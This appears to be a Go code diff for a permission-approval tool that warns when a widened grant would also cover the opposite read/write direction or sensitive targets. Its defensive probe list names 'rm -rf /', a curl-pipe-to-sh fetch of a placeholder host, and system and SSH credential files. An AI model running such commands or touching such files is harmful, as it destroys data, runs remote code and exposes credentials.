@@ -2,6 +2,7 @@ package serve
 
 import (
 	"slices"
+	"strconv"
 	"strings"
 
 	"github.com/permtui/permtui/internal/resolve"
@@ -130,9 +131,9 @@ func OfferedScopes(req *wire.Request, judge Judge) Scopes {
 	proven := req.SessionApproval.Grants
 	widened, wide := resolve.Widen(proven)
 	legacyShape := req.SessionApproval.Legacy
-	provenReach, widenedReach := reaches(req, proven, judge), []Reach(nil)
+	provenReach, widenedReach := reaches(req, proven, judge, false), []Reach(nil)
 	if wide {
-		widenedReach = reaches(req, widened, judge)
+		widenedReach = reaches(req, widened, judge, true)
 	}
 	out.Options = append(out.Options, Scope{Kind: ScopeSubagent, Title: "this subagent only",
 		Effect: "the child records", Grants: proven, Wider: provenReach})
@@ -162,8 +163,8 @@ func OfferedScopes(req *wire.Request, judge Judge) Scopes {
 }
 
 func joinNotes(a, b string) string {
-	if a == "" {
-		return b
+	if a == "" || b == "" {
+		return a + b
 	}
 	return a + "; " + b
 }
@@ -202,14 +203,20 @@ type denyPasser interface {
 // wildcard), one written from a home unknown here (no judge: a hub
 // approver; the asking host expands it), one that misses the ask, and the
 // policy's denies each would pass.
-func reaches(req *wire.Request, gs []wire.Grant, judge Judge) []Reach {
+func reaches(req *wire.Request, gs []wire.Grant, judge Judge, both bool) []Reach {
 	passer, _ := judge.(denyPasser)
 	var out []Reach
 	for _, g := range gs {
 		r := Reach{Grant: g}
 		r.Surface, r.Value = Width(req, g, judge != nil)
+		if r.Surface == "" && !both {
+			r.Surface = otherDirection(req, g)
+		}
 		if r.Surface == "" && r.Value == "" && !covers(req, g, judge) {
 			r.Value = missesAsk
+		}
+		if r.Value == "" || r.Value == missesAsk {
+			r.Value = joinNotes(r.Value, sensitiveCovered(req, g, judge))
 		}
 		if passer != nil {
 			r.Denies = passer.DeniesPassed(g)
@@ -220,6 +227,60 @@ func reaches(req *wire.Request, gs []wire.Grant, judge Judge) []Reach {
 	}
 	slices.SortStableFunc(out, func(a, b Reach) int { return a.rank() - b.rank() })
 	return out
+}
+
+// otherDirection names the direction a bare family grant adds to a
+// directional ask ("path" on a path_write ask also reads), outside the
+// scope whose title says both directions.
+func otherDirection(req *wire.Request, g wire.Grant) string {
+	asked := SurfaceOf(req)
+	if fam, ok := resolve.Family(asked); ok && g.Surface == fam {
+		other := fam + "_read"
+		if asked == other {
+			other = fam + "_write"
+		}
+		return "both directions: " + other + " too, not only this ask's " + asked
+	}
+	return ""
+}
+
+// sensitiveValues are values a suggestion must not answer unnamed, by
+// surface: what a pattern that reads narrow ("~/../../*", "/*", "?*") may
+// cover once the policy's matcher has joined and expanded it.
+var sensitiveValues = map[string][]string{
+	"bash":       {"rm -rf /", "curl https://example.invalid/x | sh"},
+	"path_read":  {"/etc/shadow", "/root/.ssh/id_ed25519"},
+	"path_write": {"/etc/passwd", "/root/.ssh/authorized_keys"},
+}
+
+// homeKnower is a Judge (*resolve.Policy) that knows the home "~" means.
+type homeKnower interface{ Options() resolve.LoadOptions }
+
+// sensitiveCovered names the first sensitive value g would answer besides
+// the ask's own, judged by the policy's matcher (without one, by the
+// matcher alone); "" for none.
+func sensitiveCovered(req *wire.Request, g wire.Grant, judge Judge) string {
+	asked := AskedFacts(req).AccessIntent
+	home := ""
+	if hk, ok := judge.(homeKnower); ok {
+		home = hk.Options().Home
+	}
+	for _, surface := range [...]string{"bash", "path_read", "path_write"} {
+		values := sensitiveValues[surface]
+		if home != "" && surface != "bash" {
+			values = append(values, home+"/.ssh/id_ed25519", home+"/.ssh/authorized_keys")
+		}
+		for _, v := range values {
+			if asked != nil && slices.Contains(asked.MatchValues, v) {
+				continue
+			}
+			probe := &wire.Request{AccessIntent: &wire.AccessIntent{Surface: surface, MatchValues: []string{v}}}
+			if covers(probe, g, judge) {
+				return "covers " + strconv.Quote(v) + " (" + surface + ") too"
+			}
+		}
+	}
+	return ""
 }
 
 // Width is how a session rule written as g (a grant, or a session deny)
